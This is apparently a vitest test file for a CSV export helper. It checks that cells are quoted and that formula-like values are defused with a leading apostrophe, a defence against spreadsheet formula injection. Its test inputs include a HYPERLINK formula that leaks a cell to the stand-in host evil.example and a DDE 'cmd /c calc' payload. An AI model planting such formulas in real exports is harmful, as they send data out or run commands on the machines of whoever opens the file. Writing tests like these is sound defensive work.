import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { formulaCells, spreadsheetCells } from "../../test/spreadsheet.ts";
import { csvCell, csvRow } from "./csv.ts";

/** The cells of a CSV read by the rules (RFC 4180), as a program reading the export would. */
const rfc = (csv: string) => (parse(csv) as string[][]).flat();

describe("csvCell", () => {
  it("quotes every text cell, doubling its quotes", () => {
    expect(csvCell("Ann")).toBe('"Ann"');
    expect(csvCell('She said "stop"')).toBe('"She said ""stop"""');
    expect(csvCell("one\r\ntwo")).toBe('"one\r\ntwo"');
    expect(rfc(csvRow(['a "b"', "c\nd", "e,f"]))).toEqual(['a "b"', "c\nd", "e,f"]);
  });

  it("keeps Ann;=1+1; from running in a spreadsheet that splits on ; (or , or a tab)", () => {
    expect(csvCell("Ann;=1+1;")).toBe(`"Ann;'=1+1;"`);
    // Not only as the first cell: a reader splitting on ; honours quotes only where its own
    // cells start, so it splits the second cell of a line whatever the quotes say.
    const csv =
      csvRow(["Ann;=1+1;", "Ann;=1+1;", "x,=2+2,", 'q;"=3+3', "t\t@SUM(A1)", "n\n-1+1"]) +
      csvRow(["Form", "Ann;=1+1;"]);
    expect(formulaCells(csv)).toEqual([]);
    expect(spreadsheetCells(csv, ";")).toContain("'=1+1");
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["=1+1"],
    ["+1+1"],
    ["-1+1"],
    ["@SUM(A1:A2)"],
    ["\tx"],
    ["\rx"],
    ["\nx"],
    ["\u0000x"],
    ["＝1+1"],
    ["-2+3+cmd|' /c calc'!A0"],
    ["+1 (415) 555-0100"],
  ])("neutralises %j with a leading apostrophe", (value) => {
    expect(rfc(csvCell(value))).toEqual([`'${value}`]);
    expect(formulaCells(csvRow(["first", value]))).toEqual([]);
  });

  it.each([
    ["+14155550199", "an E.164 phone number"],
    ["+1", "a signed number"],
    ["-1", "a negative number"],
    ["-2.5", "a decimal"],
  ])("writes the plain number %j (%s) as it is, quoted: nothing in it can run", (value) => {
    expect(csvCell(value)).toBe(`"${value}"`);
  });

  it("leaves text that only looks alike as it is", () => {
    for (const value of [
      "Ann - 2 calls",
      "a; b",
      "(415) 555-0100",
      "x=1",
      "2026-11-01T10:00:00Z",
    ]) {
      expect(rfc(csvCell(value))).toEqual([value]);
    }
  });

  it("writes numbers unquoted and nothing for null or undefined", () => {
    expect(csvRow([3, null, undefined, 12.5, -5, "x"])).toBe('3,,,12.5,-5,"x"\r\n');
  });
});
